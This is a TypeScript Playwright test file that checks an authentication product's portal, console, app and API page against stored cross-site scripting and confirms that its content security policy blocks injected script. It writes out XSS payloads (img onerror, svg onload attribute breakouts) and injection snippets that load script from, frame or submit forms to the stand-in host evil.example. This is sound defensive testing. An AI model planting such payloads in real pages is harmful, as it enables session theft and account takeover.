/**
 * The attack: markup in every text that somebody else will read (stored cross-site scripting), in the portal, the console,
 * the app and the API page. It must stand there as text: no element of it exists, and the content policy had nothing to refuse.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Page } from 'playwright-core';
import { demoPassword } from '../packages/server/src/demo.ts';
import { createStoryApi } from './support/api.ts';
import { withoutChromium } from './support/browser.ts';
import { openOperator } from './support/operator.ts';
import { addHeadless, openStory } from './support/story.ts';

const skip = withoutChromium;
const MARK = 'lanyard-hostile';
const HOSTILE = `<img id=${MARK} src=x onerror="document.title='${MARK}'"><b>`;
/** What breaks out of an attribute, a style and a link, where those are made by hand. */
const BROKEN = `"'><svg id=${MARK} onload=alert(1)>`;

/** The text is there to be read, and nothing of it has become markup. */
async function assertText(page: Page, text: string, where: string): Promise<void> {
  await page.getByText(text, { exact: false }).first().waitFor();
  await assertHarmless(page, where);
}

async function assertHarmless(page: Page, where: string): Promise<void> {
  assert.equal(await page.locator(`#${MARK}`).count(), 0, where);
  assert.notEqual(await page.title(), MARK, where);
  const scripts: string[] = await page.evaluate(
    '[...document.querySelectorAll("script")].filter(({ nonce, src }) => !nonce && !src).map(({ textContent }) => textContent)',
  );
  assert.deepEqual(scripts, [], where);
}

test('A17: markup in names, services, requests and browsers is text wherever it is read', { skip }, async (t) => {
  const story = await openStory(t, {
    settings: { displayName: HOSTILE.slice(0, 64), issuer: BROKEN.replaceAll(':', '') },
  });
  const { server } = story;
  const mallory = await server.createUser({ name: 'mallory', password: demoPassword });
  await server.kit.db.updateTable('users').set({ display_name: HOSTILE }).where('id', '=', mallory.id).execute();
  const evilBrowser = `${BROKEN} on <b>Linux`;
  const phone = await addHeadless(story, 'mallory', HOSTILE.slice(0, 60));
  const apiKey = await server.serviceKey(HOSTILE.slice(0, 60));
  await server.enter({ name: 'mallory', password: demoPassword }, { headers: { 'user-agent': evilBrowser } });

  const portal = await story.portal();
  await portal.signIn('mallory');
  await assertHarmless(portal.page, 'the choice of a way');
  await portal.page.getByRole('button', { name: 'Type a code from my phone' }).click();
  await portal.page.getByLabel('Code', { exact: true }).fill(await phone.nextCode());
  await portal.page.getByRole('button', { name: 'Continue' }).click();
  await portal.page.getByRole('heading', { name: 'Your devices' }).waitFor();
  await assertText(portal.page, HOSTILE.slice(0, 60), 'the devices');
  await portal.page.goto('/demo/sessions');
  await assertHarmless(portal.page, 'the sign-ins');

  const console = await openOperator(t, story);
  const tabs = ['profile', 'devices', 'push', 'sign-ins', 'sessions'].map(
    (tab) => `users?user=${mallory.id}&tab=${tab}`,
  );
  for (const path of ['users', ...tabs, `users?search=${encodeURIComponent(HOSTILE)}`]) {
    await console.page.goto(`/demo/console/${path}`);
    await console.page.getByRole('heading', { level: 1 }).waitFor();
    await assertText(console.page, HOSTILE.slice(0, 20), path);
  }
  await console.page.goto('/demo/console/services');
  await assertText(console.page, HOSTILE.slice(0, 60), 'the services');
  await console.page.goto('/demo/console/audit');
  await console.page.getByRole('heading', { level: 1 }).waitFor();
  await assertHarmless(console.page, 'the audit');

  const app = await story.phone();
  await app.add((await createStoryApi(story).begin('alice')).link);
  await assertHarmless(app.page, 'the accounts of the app');
  const headers = { authorization: `Bearer ${apiKey}` };
  const context = { browser: evilBrowser, place: HOSTILE, address: BROKEN };
  const body = { user: 'alice', asked: HOSTILE, service: BROKEN, context };
  const asked = await server.request('POST', '/api/v1/pushes', { headers, body });
  assert.equal(asked.status, 201, asked.text);
  await app.openRequest();
  await assertText(app.page, HOSTILE, 'the request');

  await portal.page.goto('/api');
  await assertHarmless(portal.page, 'the API page');
});

/** Ways in which injected markup would run script or send what it finds elsewhere; each sets `owned` where it works. */
const WAYS = {
  'an inline script': `const script = document.createElement('script'); script.textContent = 'owned = 1'; document.body.append(script)`,
  'an inline handler': `document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="owned = 1">')`,
  'a script address': `document.body.insertAdjacentHTML('beforeend', '<a id="way" href="javascript:owned = 1">x</a>'); document.getElementById('way').click()`,
  'a script of another site': `const script = document.createElement('script'); script.src = 'https://evil.example/x.js'; script.onload = () => { owned = 1 }; document.body.append(script)`,
  'a frame of another site': `document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe>')`,
  'a form to another site': `document.body.insertAdjacentHTML('beforeend', '<form id="form" action="https://evil.example/"></form>'); document.getElementById('form').submit()`,
  'text as code': `setTimeout('owned = 1')`,
};

test('markup that found a way in would run nothing: the content policy refuses every way', { skip }, async (t) => {
  const story = await openStory(t);
  const context = await story.browser.newContext({ baseURL: story.server.url });
  t.after(() => context.close());
  for (const path of ['/demo/sign-in', '/app/', '/api']) {
    for (const [way, code] of Object.entries(WAYS)) {
      const page = await context.newPage();
      await page.goto(path);
      await page.evaluate(`void (window.refused = new Promise((resolve) =>
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective))))`);
      await page.evaluate(`(() => { ${code} })()`);
      const directive = await page.evaluate('window.refused');
      assert.match(String(directive), /^(script-src|frame-src|form-action|default-src)/, `${way} at ${path}`);
      assert.equal(await page.evaluate('typeof owned'), 'undefined', `${way} at ${path}`);
      await page.close();
    }
  }
});
